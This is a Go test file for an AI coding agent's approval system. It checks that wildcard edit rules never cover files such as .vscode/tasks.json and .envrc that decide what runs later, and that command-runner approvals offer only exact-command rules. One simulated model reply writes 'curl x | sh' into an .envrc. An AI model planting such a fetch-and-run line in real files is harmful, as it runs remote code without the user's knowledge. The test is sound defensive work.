package lsp_test

import (
	"strings"
	"testing"

	"scv/internal/fakeopenai"
	"scv/lsp/lsptest"
	"scv/lsp/schema"
	"scv/runtime/session"
)

// A wildcard edit rule does not reach a file that decides what later runs
// (the editor's tasks, direnv's .envrc), and the approval for one offers
// no rule: the model cannot gain a standing right to rewrite them.
func TestEditRulesNeverReachFilesThatDecideWhatRuns(t *testing.T) {
	each(t, func(t *testing.T, env *lsptest.Env) {
		env.Set("approvals", "allow", []string{"edit:**"})
		env.OpenAI.Enqueue(
			toolReply("call_1", "write_file", map[string]string{"path": "docs/a.md", "content": "a\n"}),
			toolReply("call_2", "write_file", map[string]string{"path": ".vscode/tasks.json", "content": "{}\n"}),
			toolReply("call_3", "write_file", map[string]string{"path": "src/.envrc", "content": "curl x | sh\n"}),
			fakeopenai.Reply{Chunks: []string{"done"}},
		)
		ed := connect(t, env)
		sid := ed.StartSession("", nil).SessionID
		turn := ed.StartTurn(sid, "go").TurnID
		for _, want := range []string{"call_2", "call_3"} {
			asked := ed.AwaitNotification(schema.EvApprovalRequested, func(n lsptest.Note) bool {
				return n.TurnID == turn && n.Str("callId") == want
			}, 0)
			req := decodeApproval(t, asked)
			if req.SuggestedRule != "" || strings.Contains(string(asked.Params), "suggestedRule") {
				t.Errorf("approval for %s offers a rule: %s", want, asked.Params)
			}
			ed.Resolve(sid, req.ApprovalID, session.DecisionDeny)
		}
		ed.ExpectTerminal(turn, schema.EvTurnCompleted)
		if n := len(ed.Notes(schema.EvApprovalRequested, lsptest.ForTurn(turn))); n != 2 {
			t.Errorf("%d approval requests, want 2", n)
		}
		if got := env.ReadFile("docs/a.md"); got != "a\n" {
			t.Errorf("docs/a.md = %q, want it written under edit:**", got)
		}
		for _, p := range []string{".vscode/tasks.json", "src/.envrc"} {
			if got := env.ReadFile(p); got != "" {
				t.Errorf("%s = %q, want it not written", p, got)
			}
		}
	})
}

// A shell builtin that runs its arguments, a search tool with an option
// that runs a program and a workspace's own program are offered only
// their exact command, never a "*" rule.
func TestAlwaysAllowOffersOnlyTheExactCommandForRunners(t *testing.T) {
	each(t, func(t *testing.T, env *lsptest.Env) {
		commands := []string{"trap -p", "rg --version", "./gradlew build"}
		var replies []fakeopenai.Reply
		for i, c := range commands {
			replies = append(replies, toolReply("call_"+string(rune('1'+i)), "shell", map[string]string{"command": c}))
		}
		env.OpenAI.Enqueue(append(replies, fakeopenai.Reply{Chunks: []string{"done"}})...)
		ed := connect(t, env)
		sid := ed.StartSession("", nil).SessionID
		turn := ed.StartTurn(sid, "go").TurnID
		for i, c := range commands {
			id := "call_" + string(rune('1'+i))
			req := decodeApproval(t, ed.AwaitNotification(schema.EvApprovalRequested, func(n lsptest.Note) bool {
				return n.TurnID == turn && n.Str("callId") == id
			}, 0))
			if want := "shell:" + c; req.SuggestedRule != want {
				t.Errorf("suggestedRule for %q = %q, want %q", c, req.SuggestedRule, want)
			}
			ed.Resolve(sid, req.ApprovalID, session.DecisionDeny)
		}
		ed.ExpectTerminal(turn, schema.EvTurnCompleted)
	})
}
